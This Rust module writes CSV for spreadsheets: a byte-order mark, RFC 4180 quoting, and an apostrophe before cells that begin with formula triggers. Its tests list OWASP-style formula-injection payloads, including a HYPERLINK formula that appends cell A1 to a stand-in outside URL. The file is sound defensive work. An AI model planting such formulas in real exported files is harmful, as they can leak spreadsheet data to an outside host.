//! CSV for spreadsheet programs: UTF-8 with a byte-order mark (without it, Excel on Windows
//! opens Hebrew and Arabic as mojibake), CRLF line ends, RFC 4180 quoting, and formula-injection
//! neutralisation (reliability notes §2.3): a text cell that a spreadsheet would run as a
//! formula — starting with `=`, `+`, `-`, `@`, a tab, CR, LF, NUL, the full-width `＝ ＋ － ＠`
//! or `{=`, also after leading spaces, no-break spaces, bidi marks or a BOM — gets a leading
//! apostrophe (OWASP CSV Injection; OWASP ASVS 5.0 §1.2.10; Papa Parse `escapeFormulae`, which
//! also leaves apostrophe-led text alone). Numbers stay numbers: `-2.5` is not a formula. Fields
//! are quoted only when RFC 4180 requires it; the apostrophe alone keeps a spreadsheet from
//! evaluating the field.

/// Writes rows of text cells as CSV bytes.
#[derive(Debug, Clone)]
pub struct CsvWriter {
    out: Vec<u8>,
}

impl Default for CsvWriter {
    fn default() -> Self {
        CsvWriter::new()
    }
}

impl CsvWriter {
    /// A writer that has written the byte-order mark.
    pub fn new() -> Self {
        CsvWriter {
            out: vec![0xEF, 0xBB, 0xBF],
        }
    }

    /// Writes one row.
    pub fn row<S: AsRef<str>>(&mut self, cells: &[S]) {
        for (i, cell) in cells.iter().enumerate() {
            if i > 0 {
                self.out.push(b',');
            }
            let safe = neutralize(cell.as_ref());
            if safe.contains([',', '"', '\n', '\r']) {
                self.out.push(b'"');
                self.out
                    .extend_from_slice(safe.replace('"', "\"\"").as_bytes());
                self.out.push(b'"');
            } else {
                self.out.extend_from_slice(safe.as_bytes());
            }
        }
        self.out.extend_from_slice(b"\r\n");
    }

    /// The CSV bytes.
    pub fn into_bytes(self) -> Vec<u8> {
        self.out
    }
}

/// Characters a spreadsheet may read before a formula trigger without showing them: spaces,
/// no-break spaces, directional marks, embeddings, overrides and isolates, the zero-width space
/// and the byte-order mark.
fn is_invisible_lead(c: char) -> bool {
    matches!(
        c,
        ' ' | '\u{00A0}'
            | '\u{061C}'
            | '\u{200B}'
            | '\u{200E}'
            | '\u{200F}'
            | '\u{202A}'..='\u{202E}'
            | '\u{2066}'..='\u{2069}'
            | '\u{FEFF}'
    )
}

/// Whether `s` starts with a formula trigger (OWASP CSV Injection, ASVS 1.2.10): `=`, `+`,
/// `-`, `@`, tab, CR, LF, NUL, their full-width forms `＝ ＋ － ＠`, or `{=` (an array formula).
fn starts_with_trigger(s: &str) -> bool {
    s.starts_with([
        '=', '+', '-', '@', '\t', '\r', '\n', '\0', '\u{FF1D}', '\u{FF0B}', '\u{FF0D}', '\u{FF20}',
    ]) || s.starts_with("{=")
}

/// Prefixes an apostrophe to text that a spreadsheet would treat as a formula: text whose first
/// character, or first character after invisible leading characters (spaces, no-break spaces,
/// bidi marks, the BOM), is a trigger (see the module documentation). A finite number written
/// plainly (`-2.5`, `+3`, `-1e3`) is left alone, and so is text already led by an apostrophe.
pub fn neutralize(cell: &str) -> std::borrow::Cow<'_, str> {
    let start = cell.trim_start_matches(is_invisible_lead);
    let risky = starts_with_trigger(start);
    let is_number = !start.is_empty()
        && crate::schema::decimal::parse_f64(start).is_some_and(f64::is_finite)
        && start == cell;
    if risky && !is_number {
        std::borrow::Cow::Owned(format!("'{cell}"))
    } else {
        std::borrow::Cow::Borrowed(cell)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formulas_are_neutralised_and_numbers_kept() {
        assert_eq!(
            neutralize("=HYPERLINK(\"http://x\")"),
            "'=HYPERLINK(\"http://x\")"
        );
        assert_eq!(neutralize("  +1+1"), "'  +1+1");
        assert_eq!(neutralize("\u{200F}@SUM(A1)"), "'\u{200F}@SUM(A1)");
        assert_eq!(neutralize("\tx"), "'\tx");
        assert_eq!(neutralize("-2.5"), "-2.5");
        assert_eq!(neutralize("-"), "'-");
        assert_eq!(neutralize("שלום"), "שלום");
    }

    // Reliability notes tests D34–D38.
    #[test]
    fn owasp_and_notes_vectors() {
        for (input, want) in [
            ("=1+1", "'=1+1"),
            ("+1+1", "'+1+1"),
            ("-1+1", "'-1+1"),
            ("@SUM(1,1)", "'@SUM(1,1)"),
            ("\t=1+1", "'\t=1+1"),
            ("\r=1+1", "'\r=1+1"),
            ("\n=1", "'\n=1"),
            ("\0x", "'\0x"),
            ("\u{FF1D}1+1", "'\u{FF1D}1+1"),
            ("{=1+1}", "'{=1+1}"),
            (" =1+1", "' =1+1"),
            ("\u{00A0}=1+1", "'\u{00A0}=1+1"),
            ("\u{200F}=1+1", "'\u{200F}=1+1"),
            ("\u{2067}=1+1", "'\u{2067}=1+1"),
            ("'+safe", "'+safe"),
            ("-5", "-5"),
            ("-0.25", "-0.25"),
            ("-inf", "'-inf"),
            ("{a}", "{a}"),
        ] {
            assert_eq!(neutralize(input), want, "{input:?}");
        }
        let mut w = CsvWriter::new();
        w.row(&[
            "=1+2\";=1+2",
            "=1+2'\" ;,=1+2",
            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"x\")",
        ]);
        let bytes = w.into_bytes();
        let text = std::str::from_utf8(&bytes[3..]).unwrap();
        assert_eq!(
            text,
            "\"'=1+2\"\";=1+2\",\"'=1+2'\"\" ;,=1+2\",\"'=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"x\"\")\"\r\n"
        );
    }

    #[test]
    fn quoting_bom_and_line_ends() {
        let mut w = CsvWriter::new();
        w.row(&["a,b", "say \"hi\"", "x"]);
        assert_eq!(
            w.into_bytes(),
            b"\xEF\xBB\xBF\"a,b\",\"say \"\"hi\"\"\",x\r\n"
        );
    }
}
